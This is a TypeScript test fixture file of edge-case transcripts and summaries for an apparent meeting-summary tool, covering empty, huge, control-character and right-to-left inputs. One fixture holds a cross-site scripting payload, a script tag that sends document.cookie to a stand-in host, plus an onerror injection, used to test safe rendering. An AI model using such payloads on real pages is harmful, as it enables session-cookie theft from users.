import type { SimulatedSummary } from './meeting';

/** Transcripts and summaries that must do no harm. Put one into a meeting's `transcriptFile` or `summary`. */

export const EMPTY_TRANSCRIPT = '';
/** Well-formed WebVTT in which nobody says anything. */
export const SILENT_TRANSCRIPT = 'WEBVTT\n\nNOTE nobody spoke\n';
/** What Zoom has been seen to answer, with status 200, when it wants a sign-in. */
export const SIGN_IN_PAGE = '<!doctype html><html><body>Please sign in to your Zoom account.</body></html>';

/** Valid WebVTT of at least this many bytes. */
export function hugeTranscript(bytes: number): Buffer {
  const cue = '00:00:01.000 --> 00:00:02.000\nRita Sandoval: the same sentence again and again\n\n';
  return Buffer.concat([Buffer.from('WEBVTT\n\n'), Buffer.alloc(Math.ceil(bytes / cue.length) * cue.length, cue)]);
}

function summary(overview: string): SimulatedSummary {
  return { shape: 'sections', overview, details: [], nextSteps: [] };
}

export const SCRIPT_SUMMARY = summary(
  'They agreed on <b>two</b> sites. <script>fetch("https://evil.example/" + document.cookie)</script><img src=x onerror=alert(1)>',
);

/** NUL, bell, escape, a C1 control and a lone surrogate between ordinary words. */
export const CONTROL_CHARACTER_SUMMARY = summary(
  'First\u0000 point.\u0007 Second\u001b[31m point.\u0085Third\u009f point \ud800.',
);

/** Hebrew and Arabic with Latin words and the direction marks they need. */
export const RIGHT_TO_LEFT_SUMMARY = summary(
  '\u2067הלקוח ביקש הצעת מחיר עד יום חמישי\u2069 (Aldermoor). اتفقوا على موعد جديد.',
);

/** A summary of exactly this many characters, ending in a full stop. */
export function longSummary(characters: number): SimulatedSummary {
  const sentence = 'Helen Marsh asked for a plan that is right in the morning. ';
  return summary(`${sentence.repeat(Math.ceil(characters / sentence.length)).slice(0, characters - 1)}.`);
}
